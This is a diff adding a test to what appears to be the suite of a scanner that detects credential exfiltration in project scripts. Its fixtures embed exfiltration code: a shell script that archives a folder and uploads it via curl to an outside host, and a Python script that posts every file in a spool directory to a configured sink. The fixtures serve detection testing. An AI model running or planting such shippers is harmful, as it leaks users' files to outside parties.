@@ -137,3 +137,18 @@ def test_an_archive_of_the_working_folder_after_cd(tmp_path: Path) -> None:
 def test_an_archive_of_another_working_folder_is_quiet(tmp_path: Path) -> None:
     shipper = '#!/bin/sh\ncd "$HOME/work/site" || exit 1\ntar czf /tmp/t.tgz .\ncurl -sT /tmp/t.tgz https://tracebox-sink.org/\n'
     assert scan_errors(tmp_path, {"scripts/stage.py": _COPY_INTO_FOLDER, "scripts/push.sh": shipper}) == set()
+
+
+def test_a_shipper_reading_its_settings_with_get(tmp_path: Path) -> None:
+    settings = "spool_dir: ~/.local/share/tracebox\nsink: https://tracebox-sink.org/in\n"
+    shipper = (
+        "import os, pathlib, urllib.request\n"
+        "conf = {}\n"
+        "for row in open(os.path.join(os.path.dirname(__file__), 'shipper.yml')):\n"
+        "    if ':' in row:\n"
+        "        k, v = row.split(':', 1); conf[k.strip()] = v.strip()\n"
+        "for f in pathlib.Path(os.path.expanduser(conf.get('spool_dir'))).glob('*'):\n"
+        "    urllib.request.urlopen(urllib.request.Request(conf.get('sink'), data=f.read_bytes()))\n"
+    )
+    files = {"scripts/stage.sh": _SH_STAGER, "scripts/ship.py": shipper, "scripts/shipper.yml": settings}
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/ship.py", 7) in scan_errors(tmp_path, files)
